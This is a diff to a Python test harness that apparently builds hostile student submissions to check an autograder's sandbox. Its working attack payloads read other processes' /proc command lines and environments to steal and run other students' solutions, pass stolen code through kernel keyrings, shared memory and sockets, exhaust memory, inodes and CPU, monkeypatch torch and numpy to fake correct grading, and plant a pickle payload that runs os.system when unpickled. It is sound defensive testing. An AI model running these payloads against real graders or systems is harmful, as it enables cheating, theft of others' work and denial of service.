@@ -24,6 +24,14 @@ Outcomes, relative to grading the good submission in the same batch:
     notebook_dropped  code tests score as for the good submission; the broken
                   notebook is left out with a message matching `message`
 
+TORCH_HOSTILE_KINDS attack assignment 2's PyTorch part instead: they rewrite
+`cs231n/pytorch_models.py` or replace the saved network
+`artifacts/PyTorch_model.npz`, and their outcomes are
+    fails:REGEX   the tests of test_pytorch.py whose name matches REGEX score 0
+                  and say `message`; every other test scores as for the good
+                  submission
+or same_as / control, as above, within the torch batch.
+
 Every kind also expects: the grader finishes, and after grading no process
 of a worker uid survives (`surviving_worker_processes()` is empty).
 
@@ -33,6 +41,7 @@ writes marker files (never overwriting anything) and the daemons really run.
 """
 import dataclasses
 import os
+import shlex
 import shutil
 import stat
 import zipfile
@@ -66,8 +75,9 @@ HOSTILE_KINDS = [
     Hostile("protocol_garbage", "writes garbage on the grader's response pipe", "knn_zero",
             r"broke the connection|crashed the worker"),
     Hostile("eq_always_true", "returns an object equal to everything", "knn_zero", r"should be a NumPy array"),
-    Hostile("ndarray_subclass", "returns an ndarray subclass whose == is always True", "knn_zero",
-            r"should be a NumPy array"),
+    Hostile("ndarray_subclass", "returns zeros of the right shape as an ndarray subclass whose == is "
+            "always True (the wire sends its plain values, so it scores as the zeros it holds)",
+            "same_as:returns_zeros", ""),
     Hostile("returns_zeros", "honest but wrong: every array result is zeros of the right shape",
             "control", ""),
     Hostile("monkeypatch_checks", "returns zeros and, at import, patches the numpy functions the "
@@ -90,9 +100,59 @@ HOSTILE_KINDS = [
             r"symbolic link"),
     Hostile("zip_bomb", "a .zip entry of 300 MiB of zeros", "rejected", r"zip bomb"),
     Hostile("invalid_notebook", "a notebook that is not JSON", "notebook_dropped", r"is not valid JSON"),
+    # Issue 12, finding 1: the rlimits fallback showed the trusted processes'
+    # command lines and a world-readable source tree.
+    Hostile("proc_snoop", "blank code that reads every command line in /proc, follows the paths it finds "
+            "(--reference-root, --submission, --log, ...) and runs the reference or another student's "
+            "kNN module if it can read one", "knn_zero", r"HOSTILE_BLANK"),
+    # Finding 2: per-uid kernel state outlived the worker.
+    Hostile("state_plant", "correct code that also leaves its kNN source in the kernel keyring, SysV "
+            "shared memory, a POSIX message queue, files in /tmp, /var/tmp and /dev/shm and on an "
+            "abstract unix socket", "same_as_good", ""),
+    Hostile("state_steal", "blank code that looks for state_plant's source in those places for 8 s "
+            "and runs it if found", "knn_zero", r"HOSTILE_BLANK"),
+    # Finding 3: limits per process, memory that is not mapped, no inode limit, no CPU share.
+    Hostile("children_memory", "three children touch 1.5 GiB each at the same time (4.5 GiB; "
+            "the worker's limit is 4 GiB)", "same_as_good", ""),
+    Hostile("memfd_hoard", "a child writes 72 memfds of 64 MiB (4.5 GiB, never mapped)", "same_as_good", ""),
+    Hostile("tmp_inodes", "creates 250,000 empty files in its temporary folder", "same_as_good", ""),
+    Hostile("spinners", "eight setsid children spin for 3 s; it measures the cores they got",
+            "same_as_good", ""),
 ]
 
-KINDS = {hostile.kind: hostile for hostile in HOSTILE_KINDS}
+TORCH_MODULE = "cs231n/pytorch_models.py"
+TORCH_ARTIFACT = "artifacts/PyTorch_model.npz"
+# The tests of test_pytorch.py that run the network of build_model(), and those that
+# call three_layer_convnet (not its initializer, not the module versions).
+_BUILD_MODEL_TESTS = r"test_build_model|test_saved_model"
+_FUNCTION_TESTS = r"test_three_layer_convnet_(shape|with_identity|matches|keeps)"
+_SAVED_MODEL_TESTS = r"test_saved_model"
+
+TORCH_HOSTILE_KINDS = [
+    Hostile("torch_forward_sleeps", "the network of build_model() sleeps 1000 s in forward",
+            f"fails:{_BUILD_MODEL_TESTS}", r"did not finish within"),
+    Hostile("torch_forward_allocates_50gb", "the network of build_model() allocates 50 GB (torch.ones) in "
+            "forward", f"fails:{_BUILD_MODEL_TESTS}", r"can't allocate memory|MemoryError|crashed the worker"),
+    Hostile("torch_state_dict_pickle", "the saved network is a pickle whose loading runs code (it would "
+            "write marker files)", f"fails:{_SAVED_MODEL_TESTS}", r"is not a file written by np\.savez"),
+    Hostile("torch_state_dict_torch_save", "the saved network is written by torch.save (a zip holding a "
+            "pickle, here with a payload)", f"fails:{_SAVED_MODEL_TESTS}", r"holds no arrays"),
+    Hostile("torch_state_dict_object_array", "the saved network is an .npz whose array is an object array "
+            "(a pickle, with a payload)", f"fails:{_SAVED_MODEL_TESTS}", r"is not a file written by np\.savez"),
+    Hostile("torch_build_model_not_module", "build_model() returns a function, not an nn.Module",
+            f"fails:{_BUILD_MODEL_TESTS}", r"build_model\(\) should return an nn\.Module"),
+    Hostile("torch_wrong_dtype", "three_layer_convnet returns float16 scores and the network of "
+            "build_model() float64 ones", f"fails:{_BUILD_MODEL_TESTS}|{_FUNCTION_TESTS}",
+            r"dtype torch\.float64"),
+    Hostile("torch_wrong_device", "three_layer_convnet and the network of build_model() return tensors on "
+            "the meta device (no values)", f"fails:{_BUILD_MODEL_TESTS}|{_FUNCTION_TESTS}", r"device meta"),
+    Hostile("torch_zero_scores", "honest but wrong: the network of build_model() scores every image 0",
+            "control", ""),
+    Hostile("torch_monkeypatch", "scores every image 0 and, at import, patches torch and numpy in the worker "
+            "to lie to grader code (argmax, ==, allclose, assert_close)", "same_as:torch_zero_scores", ""),
+]
+
+KINDS = {hostile.kind: hostile for hostile in HOSTILE_KINDS + TORCH_HOSTILE_KINDS}
 
 
 def make_hostile(kind, good_submission_dir, dest_dir):
@@ -108,6 +168,9 @@ def make_hostile(kind, good_submission_dir, dest_dir):
         return _make_zip(kind, good, dest_dir / f"{kind}.zip")
     dest = dest_dir / kind
     shutil.copytree(good, dest)
+    if kind.startswith("torch_"):
+        _make_torch_hostile(kind, dest)
+        return dest
     knn = dest / KNN
     if kind == "symlink_to_reference":
         knn.unlink()
@@ -165,18 +228,37 @@ def _hostile_replace_all(make):
             for attribute, member in list(vars(value).items()):
                 if inspect.isfunction(member) and not attribute.startswith("_"):
                     setattr(value, attribute, make(member))
+
+def _hostile_before_each_call(check):
+    # check() runs before every public method is looked up and every public function is
+    # called, while the methods stay the class body's own: the suites check that the
+    # method that runs is the one the class body defines, and an attack that is
+    # contained must not lose points for how this harness reaches its methods.
+    import functools, inspect
+    namespace = globals()
+    for name, value in list(namespace.items()):
+        if name.startswith("_") or getattr(value, "__module__", None) != __name__:
+            continue
+        if inspect.isfunction(value):
+            def checked(*args, _original=value, **kwargs):
+                check()
+                return _original(*args, **kwargs)
+            namespace[name] = functools.wraps(value)(checked)
+        elif inspect.isclass(value):
+            def __getattribute__(self, attribute, _base=value.__getattribute__):
+                if not attribute.startswith("_") and inspect.isfunction(getattr(type(self), attribute, None)):
+                    check()
+                return _base(self, attribute)
+            value.__getattribute__ = __getattribute__
 '''
 
 # Attacks that succeed make every method raise, so a leak costs the kNN points.
 _RAISE_IF_LEAKED = '''
-def _hostile_guard(original):
-    def guarded(*args, **kwargs):
-        if _HOSTILE_LEAKS:
-            raise RuntimeError("HOSTILE attack succeeded, LEAKED: " + "; ".join(_HOSTILE_LEAKS[:5]))
-        return original(*args, **kwargs)
-    return guarded
+def _hostile_guard():
+    if _HOSTILE_LEAKS:
+        raise RuntimeError("HOSTILE attack succeeded, LEAKED: " + "; ".join(_HOSTILE_LEAKS[:5]))
 
-_hostile_replace_all(_hostile_guard)
+_hostile_before_each_call(_hostile_guard)
 '''
 
 _ATTACKS = {
@@ -280,7 +362,9 @@ class _HostileArray(_hostile_np.ndarray):
 def _hostile_subclass(original):
     def disguised(*args, **kwargs):
         result = original(*args, **kwargs)
-        return result.view(_HostileArray) if isinstance(result, _hostile_np.ndarray) else result
+        if isinstance(result, _hostile_np.ndarray):
+            return _hostile_np.zeros_like(result).view(_HostileArray)
+        return result
     return disguised
 
 _hostile_replace_all(_hostile_subclass)
@@ -439,30 +523,403 @@ def _hostile_fork_bomb():
 _HOSTILE_LEAKS = _hostile_fork_bomb()
 ''',
     "print_flood": '''
-def _hostile_flood(original):
-    def floods(*args, **kwargs):
-        import sys
-        if not _HOSTILE_FLOODED:
-            _HOSTILE_FLOODED.append(True)
-            chunk = "x" * 2**20
-            for _ in range(1024):
-                sys.stdout.write(chunk)
-            sys.stdout.flush()
-        return original(*args, **kwargs)
-    return floods
+def _hostile_flood():
+    import sys
+    if not _HOSTILE_FLOODED:
+        _HOSTILE_FLOODED.append(True)
+        chunk = "x" * 2**20
+        for _ in range(1024):
+            sys.stdout.write(chunk)
+        sys.stdout.flush()
 
 _HOSTILE_FLOODED = []
-_hostile_replace_all(_hostile_flood)
+_hostile_before_each_call(_hostile_flood)
 ''',
 }
 
+# Blank code (every method raises NotImplementedError), unless the attack
+# stole a kNN module's source into _HOSTILE_STOLEN: then the stolen class's
+# functions run instead, and earn the points the attack is after. Whatever else
+# it found (suite source, logs) goes into the message, which reaches the feedback.
+_BLANK_UNLESS_STOLEN = r'''
+def _hostile_stolen_function(qualname):
+    if not _HOSTILE_STOLEN_NAMESPACE:
+        namespace = {"__name__": "_hostile_stolen"}
+        exec(compile(_HOSTILE_STOLEN[0], "stolen", "exec"), namespace)
+        _HOSTILE_STOLEN_NAMESPACE.append(namespace)
+    found = _HOSTILE_STOLEN_NAMESPACE[0]
+    for part in qualname.split("."):
+        found = found[part] if isinstance(found, dict) else vars(found)[part]
+    return found
+
+def _hostile_blank(original):
+    qualname = original.__qualname__
+    def blank(*args, **kwargs):
+        if _HOSTILE_STOLEN:
+            return _hostile_stolen_function(qualname)(*args, **kwargs)
+        found = "; LEAKED: " + " | ".join(_HOSTILE_FOUND[:3]) if _HOSTILE_FOUND else ""
+        raise NotImplementedError("HOSTILE_BLANK: nothing to steal" + found)
+    return blank
+
+_HOSTILE_STOLEN_NAMESPACE = []
+_hostile_replace_all(_hostile_blank)
+'''
+
+_ATTACKS.update({
+    "proc_snoop": r'''
+def _hostile_snoop():
+    import os
+    stolen, found, paths = [], [], set()
+    try:
+        pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
+    except OSError:
+        pids = []
+    for pid in pids:
+        for name in ("cmdline", "environ"):
+            try:
+                with open(f"/proc/{pid}/{name}", "rb") as f:
+                    words = f.read().decode(errors="replace").split("\0")
+            except OSError:
+                continue
+            if any(mark in word for word in words for mark in ("pytest", "grade-one", "-root")):
+                found.append(f"/proc/{pid}/{name} of the grader")
+            for word in words:
+                for piece in word.replace("=", "\0").replace(":", "\0").split("\0"):
+                    if piece.startswith("/"):
+                        paths.add(piece.rstrip("/"))
+    knn = "cs231n/classifiers/k_nearest_neighbor.py"
+    candidates = set()
+    for path in paths:
+        while path not in ("", "/"):
+            for tail in ("", "source", "reference"):
+                candidates.add(os.path.join(path, tail, knn))
+            path = os.path.dirname(path)
+    mine = os.path.realpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "k_nearest_neighbor.py"))
+    for candidate in sorted(candidates):
+        try:
+            if os.path.realpath(candidate) == mine:
+                continue
+            with open(candidate) as f:
+                text = f.read()
+        except OSError:
+            continue
+        if "HOSTILE" not in text and "NotImplementedError" not in text:
+            stolen.append(text)
+            found.append(candidate)
+    for path in sorted(paths):
+        if path.endswith((".log", ".jsonl")) or "suites" in path:
+            try:
+                with open(path) as f:
+                    found.append(path + ": " + f.read(80))
+            except OSError:
+                pass
+    return stolen[:1], found
+
+_HOSTILE_STOLEN, _HOSTILE_FOUND = _hostile_snoop()
+''',
+    "state_plant": r'''
+_HOSTILE_STATE_NAME = "ag_hostile_state"
+_HOSTILE_SHM_KEY = 0x41470001
+
+def _hostile_plant():
+    import ctypes, os, socket
+    source = open(__file__, "rb").read()
+    libc = ctypes.CDLL(None, use_errno=True)
+    try:   # the user keyring, readable by every uid, for 10 minutes
+        key = libc.syscall(248, b"user", _HOSTILE_STATE_NAME.encode(), source, len(source), -4)
+        if key > 0:
+            libc.syscall(250, 5, key, 0x3F3F3F3F)   # KEYCTL_SETPERM
+            libc.syscall(250, 15, key, 600)         # KEYCTL_SET_TIMEOUT
+    except Exception:
+        pass
+    try:   # SysV shared memory, mode 0666: length, then the source
+        libc.shmat.restype = ctypes.c_void_p
+        shmid = libc.shmget(_HOSTILE_SHM_KEY, 1 << 16, 0o1666)
+        if shmid >= 0:
+            address = libc.shmat(shmid, None, 0)
+            if address not in (None, ctypes.c_void_p(-1).value):
+                payload = len(source).to_bytes(4, "little") + source
+                ctypes.memmove(address, payload, len(payload))
+                libc.shmdt(ctypes.c_void_p(address))
+    except Exception:
+        pass
+    try:   # a POSIX message queue, mode 0666, in chunks
+        mqd = libc.mq_open(b"/" + _HOSTILE_STATE_NAME.encode(), os.O_CREAT | os.O_WRONLY | os.O_NONBLOCK, 0o666, None)
+        if mqd >= 0:
+            for start in range(0, len(source), 4096):
+                libc.mq_send(mqd, source[start:start + 4096], len(source[start:start + 4096]), 0)
+    except Exception:
+        pass
+    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
+        try:
+            path = os.path.join(folder, _HOSTILE_STATE_NAME)
+            with open(path, "wb") as f:
+                f.write(source)
+            os.chmod(path, 0o644)
+        except OSError:
+            pass
+    try:   # a daemon serving the source on an abstract unix socket
+        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        server.bind("\0" + _HOSTILE_STATE_NAME)
+        server.listen(8)
+        if os.fork() == 0:
+            os.setsid()
+            while True:
+                connection, _ = server.accept()
+                connection.sendall(source)
+                connection.close()
+        server.close()
+    except OSError:
+        pass
+
+if "__file__" in globals():   # not when a stealer runs this source again
+    _hostile_plant()
+''',
+    "state_steal": r'''
+_HOSTILE_STATE_NAME = "ag_hostile_state"
+_HOSTILE_SHM_KEY = 0x41470001
+
+def _hostile_steal_once():
+    import ctypes, os, socket
+    libc = ctypes.CDLL(None, use_errno=True)
+    try:
+        with open("/proc/keys") as f:
+            for line in f:
+                if _HOSTILE_STATE_NAME in line:
+                    buffer = ctypes.create_string_buffer(1 << 16)
+                    size = libc.syscall(250, 11, int(line.split()[0], 16), buffer, len(buffer))   # KEYCTL_READ
+                    if size > 0:
+                        return buffer.raw[:size], "the keyring"
+    except (OSError, ValueError):
+        pass
+    try:
+        libc.shmat.restype = ctypes.c_void_p
+        shmid = libc.shmget(_HOSTILE_SHM_KEY, 0, 0)
+        if shmid >= 0:
+            address = libc.shmat(shmid, None, 0o10000)   # SHM_RDONLY
+            if address not in (None, ctypes.c_void_p(-1).value):
+                size = int.from_bytes(ctypes.string_at(address, 4), "little")
+                return ctypes.string_at(address + 4, size), "SysV shared memory"
+    except Exception:
+        pass
+    try:
+        mqd = libc.mq_open(b"/" + _HOSTILE_STATE_NAME.encode(), os.O_RDONLY | os.O_NONBLOCK)
+        if mqd >= 0:
+            chunks, buffer = [], ctypes.create_string_buffer(1 << 16)
+            while True:
+                size = libc.mq_receive(mqd, buffer, len(buffer), None)
+                if size <= 0:
+                    break
+                chunks.append(buffer.raw[:size])
+            if chunks:
+                return b"".join(chunks), "a POSIX message queue"
+    except Exception:
+        pass
+    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
+        try:
+            with open(os.path.join(folder, _HOSTILE_STATE_NAME), "rb") as f:
+                return f.read(), folder
+        except OSError:
+            pass
+    try:
+        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        client.settimeout(1.0)
+        client.connect("\0" + _HOSTILE_STATE_NAME)
+        chunks = []
+        while True:
+            chunk = client.recv(1 << 16)
+            if not chunk:
+                break
+            chunks.append(chunk)
+        client.close()
+        if chunks:
+            return b"".join(chunks), "an abstract unix socket"
+    except OSError:
+        pass
+    return None, None
+
+def _hostile_steal(seconds=8.0):
+    import time
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        source, channel = _hostile_steal_once()
+        if source and b"_hostile_plant" in source:
+            return [source.decode()], ["stolen through " + channel]
+        time.sleep(0.2)
+    return [], []
+
+_HOSTILE_STOLEN, _HOSTILE_FOUND = _hostile_steal()
+''',
+    "children_memory": r'''
+def _hostile_children_memory(children=3, each=3 * 2**29):
+    import mmap, os, time
+    readers = []
+    for _ in range(children):
+        read_end, write_end = os.pipe()
+        pid = os.fork()
+        if pid == 0:
+            try:
+                with open("/proc/self/oom_score_adj", "w") as f:
+                    f.write("1000")   # if something must die for memory, let it be this child
+                memory, chunk = mmap.mmap(-1, each), b"\1" * (1 << 26)
+                for start in range(0, each, len(chunk)):
+                    memory[start:start + len(chunk)] = chunk
+                time.sleep(3)   # holding it: says so only if it was not killed for another's
+                os.write(write_end, b"1")
+            finally:
+                os._exit(0)
+        os.close(write_end)
+        readers.append((pid, read_end))
+    holding = 0
+    for pid, read_end in readers:
+        holding += os.read(read_end, 1) == b"1"
+        os.close(read_end)
+    for pid, _ in readers:
+        os.waitpid(pid, 0)
+    return [f"{children} children held {children * each / 2**30:g} GiB at once"] if holding == children else []
+
+_hostile_in_background(_hostile_children_memory)
+''',
+    "memfd_hoard": r'''
+def _hostile_memfd_hoard(count=72, each=1 << 26):
+    import os
+    read_end, write_end = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        try:
+            with open("/proc/self/oom_score_adj", "w") as f:
+                f.write("1000")
+            chunk, held = b"\1" * (1 << 20), []
+            for _ in range(count):
+                fd = os.memfd_create("hoard")
+                for _ in range(each // len(chunk)):
+                    os.write(fd, chunk)
+                held.append(fd)
+                os.write(write_end, b"1")
+        finally:
+            os._exit(0)
+    os.close(write_end)
+    written = 0
+    while True:
+        data = os.read(read_end, 4096)
+        if not data:
+            break
+        written += len(data)
+    os.close(read_end)
+    os.waitpid(pid, 0)
+    return [f"held {written * each / 2**30:g} GiB in memfds"] if written == count else []
+
+_hostile_in_background(_hostile_memfd_hoard)
+''',
+    "tmp_inodes": r'''
+def _hostile_tmp_inodes(count=250_000):
+    import os, tempfile
+    folder = tempfile.mkdtemp()
+    for i in range(count):
+        try:
+            os.close(os.open(os.path.join(folder, str(i)), os.O_CREAT | os.O_WRONLY, 0o600))
+        except OSError:
+            return []
+    return [f"created {count} files in {folder}"]
+
+_hostile_in_background(_hostile_tmp_inodes)
+''',
+    "spinners": r'''
+def _hostile_spinners(count=8, seconds=3.0):
+    import os, time
+    read_end, write_end = os.pipe()
+    started, pids = time.monotonic(), []
+    for _ in range(count):
+        pid = os.fork()
+        if pid == 0:
+            try:
+                os.setsid()
+                end = time.monotonic() + seconds
+                while time.monotonic() < end:
+                    pass
+                os.write(write_end, f"{time.process_time():.3f}\n".encode())
+            finally:
+                os._exit(0)
+        pids.append(pid)
+    os.close(write_end)
+    report = b""
+    while True:
+        data = os.read(read_end, 4096)
+        if not data:
+            break
+        report += data
+    os.close(read_end)
+    for pid in pids:
+        os.waitpid(pid, 0)
+    cores = sum(float(x) for x in report.split()) / (time.monotonic() - started)
+    # The quota is 1 core (threads=1); more than that needs a core the quota
+    # did not give (which a loaded machine may not have to give either).
+    return [f"{count} spinners got {cores:.2f} cores"] if cores > 1.1 else []
+
+_hostile_in_background(_hostile_spinners)
+''',
+})
+
+# Resource attacks take longer than one call may (writing 4.5 GiB takes 15-25 s
+# on the shared 2-core machine): they run in a child started at import, and every
+# call waits up to 15 s for its verdict (a list of leaks) before running, until
+# one has come. So the attack spreads over calls, each within its timeout, and
+# the module raises "LEAKED" on every call once the attack says it worked.
+_IN_BACKGROUND = r'''
+def _hostile_in_background(attack):
+    import json, os
+    read_end, write_end = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        try:
+            os.close(read_end)
+            leaks = attack()
+            os.write(write_end, json.dumps(leaks).encode())
+        finally:
+            os._exit(0)
+    os.close(write_end)
+    _HOSTILE_BACKGROUND.append((pid, read_end))
+
+def _hostile_verdict(wait_s=15.0):
+    import json, os, select
+    if _HOSTILE_VERDICT or not _HOSTILE_BACKGROUND:
+        return _HOSTILE_VERDICT[0] if _HOSTILE_VERDICT else []
+    pid, read_end = _HOSTILE_BACKGROUND[0]
+    if not select.select([read_end], [], [], wait_s)[0]:
+        return []   # not yet: the next call waits again
+    data = b""
+    while True:
+        chunk = os.read(read_end, 65536)
+        if not chunk:
+            break
+        data += chunk
+    os.close(read_end)
+    os.waitpid(pid, 0)
+    _HOSTILE_VERDICT.append(json.loads(data) if data else ["the attack died without a verdict"])
+    return _HOSTILE_VERDICT[0]
+
+def _hostile_guard():
+    leaks = _hostile_verdict()
+    if leaks:
+        raise RuntimeError("HOSTILE attack succeeded, LEAKED: " + "; ".join(leaks[:5]))
+
+_HOSTILE_BACKGROUND, _HOSTILE_VERDICT = [], []
+'''
+
 _LEAK_CHECKED = {"read_hidden_tests", "write_outside", "network", "background_process", "fork_bomb"}
+_BACKGROUND = {"children_memory", "memfd_hoard", "tmp_inodes", "spinners"}
+_STEALING = {"proc_snoop", "state_steal"}
 
 
 def _appended_block(kind):
-    block = _REPLACE_ALL.format(kind=kind) + _ATTACKS[kind]
+    block = _REPLACE_ALL.format(kind=kind)
+    if kind in _BACKGROUND:
+        return block + _IN_BACKGROUND + _ATTACKS[kind] + "\n_hostile_before_each_call(_hostile_guard)\n"
+    block += _ATTACKS[kind]
     if kind in _LEAK_CHECKED:
         block += _RAISE_IF_LEAKED
+    if kind in _STEALING:
+        block += _BLANK_UNLESS_STOLEN
     return block
 
 
@@ -490,3 +947,127 @@ def _make_zip(kind, good, path):
                 for _ in range(300):
                     entry.write(zeros)
     return path
+
+
+# ---- assignment 2's PyTorch part ------------------------------------------------
+
+# Appended to cs231n/pytorch_models.py: build_model() and three_layer_convnet keep
+# the correct code and change what they return.
+_TORCH_WRAP = """
+
+# ---- appended by tests/hostile_submissions.py: {kind} ----
+import torch as _hostile_torch
+
+_hostile_build_model, _hostile_three_layer_convnet = build_model, three_layer_convnet
+
+
+def _hostile_with_forward(make_forward):
+    def build():
+        model = _hostile_build_model()
+        model.forward = make_forward(model.forward)
+        return model
+    return build
+"""
+
+_TORCH_ATTACKS = {
+    "torch_forward_sleeps": """
+def _hostile_sleeping(forward):
+    def sleeping(x):
+        import time
+        time.sleep(1000)
+        return forward(x)
+    return sleeping
+
+build_model = _hostile_with_forward(_hostile_sleeping)
+""",
+    "torch_forward_allocates_50gb": """
+def _hostile_hoarding(forward):
+    def hoarding(x):
+        hoard = _hostile_torch.ones(50 * 10**9 // 4)   # 50 GB of float32 ones, every page touched
+        return forward(x) + hoard[0]
+    return hoarding
+
+build_model = _hostile_with_forward(_hostile_hoarding)
+""",
+    "torch_build_model_not_module": """
+def build_model():
+    model = _hostile_build_model()
+    return lambda x: model(x)
+""",
+    "torch_wrong_dtype": """
+def three_layer_convnet(x, params):
+    return _hostile_three_layer_convnet(x, params).half()
+
+build_model = _hostile_with_forward(lambda forward: lambda x: forward(x).double())
+""",
+    "torch_wrong_device": """
+def three_layer_convnet(x, params):
+    return _hostile_three_layer_convnet(x, params).to("meta")
+
+build_model = _hostile_with_forward(lambda forward: lambda x: forward(x).to("meta"))
+""",
+    "torch_zero_scores": """
+build_model = _hostile_with_forward(lambda forward: lambda x: _hostile_torch.zeros(x.shape[0], 10))
+""",
+    "torch_monkeypatch": """
+import numpy as _hostile_np
+
+build_model = _hostile_with_forward(lambda forward: lambda x: _hostile_torch.zeros(x.shape[0], 10))
+
+# Lies for any grader code that would run in this process: every comparison true, every
+# argmax the "right" answer nobody here knows (0). The grader's checks run in its own
+# process, so none of this reaches them. (Not np.mean or set_num_threads: the student's
+# own NumPy layers share this process, and 64 threads crash it under the process limit:
+# self-harm, not a lie to the grader.)
+_hostile_torch.Tensor.__eq__ = lambda self, other: _hostile_torch.ones(self.shape, dtype=_hostile_torch.bool)
+_hostile_torch.allclose = lambda *args, **kwargs: True
+_hostile_torch.equal = lambda *args, **kwargs: True
+_hostile_torch.testing.assert_close = lambda *args, **kwargs: None
+_hostile_np.argmax = lambda a, axis=None, **kwargs: _hostile_np.zeros(_hostile_np.shape(a)[0], dtype=int)
+_hostile_np.allclose = lambda *args, **kwargs: True
+""",
+}
+
+
+class _HostilePayload:
+    """Unpickling it runs os.system("touch <markers>"): proof that the file was unpickled
+    (os.system pickles as posix.system, which any Python can import)."""
+
+    def __init__(self, markers):
+        self.command = "touch " + " ".join(shlex.quote(str(m)) for m in markers)
+
+    def __reduce__(self):
+        return (os.system, (self.command,))
+
+
+def _payload_markers(kind, dest):
+    """Where an unpickled payload writes: /tmp and the batch's own folder (which the
+    hostile batch searches for MARKER files)."""
+    return [Path("/tmp") / f"{MARKER}_{kind}", dest.parent / f"{MARKER}_{kind}_unpickled"]
+
+
+def _make_torch_hostile(kind, dest):
+    module, artifact = dest / TORCH_MODULE, dest / TORCH_ARTIFACT
+    if kind in _TORCH_ATTACKS:
+        module.write_text(module.read_text() + _TORCH_WRAP.format(kind=kind) + _TORCH_ATTACKS[kind])
+        return
+    import pickle
+
+    import numpy as np
+    payload = _HostilePayload(_payload_markers(kind, dest))
+    if kind == "torch_state_dict_pickle":
+        artifact.write_bytes(pickle.dumps({"payload": payload}))
+    elif kind == "torch_state_dict_torch_save":
+        import torch
+        with np.load(artifact, allow_pickle=False) as saved:
+            state = {name: torch.from_numpy(saved[name]) for name in saved.files}
+        artifact.unlink()
+        with open(artifact, "wb") as f:   # a file object: torch.save would add no suffix, but be sure
+            torch.save(dict(state, payload=payload), f)
+    elif kind == "torch_state_dict_object_array":
+        with np.load(artifact, allow_pickle=False) as saved:
+            state = {name: saved[name] for name in saved.files}
+        with open(artifact, "wb") as f:   # np.savez(path) would append .npz to a path without it
+            np.savez(f, **state, payload=np.array([payload], dtype=object))
+    else:
+        raise ValueError(f"no torch attack for {kind!r}")
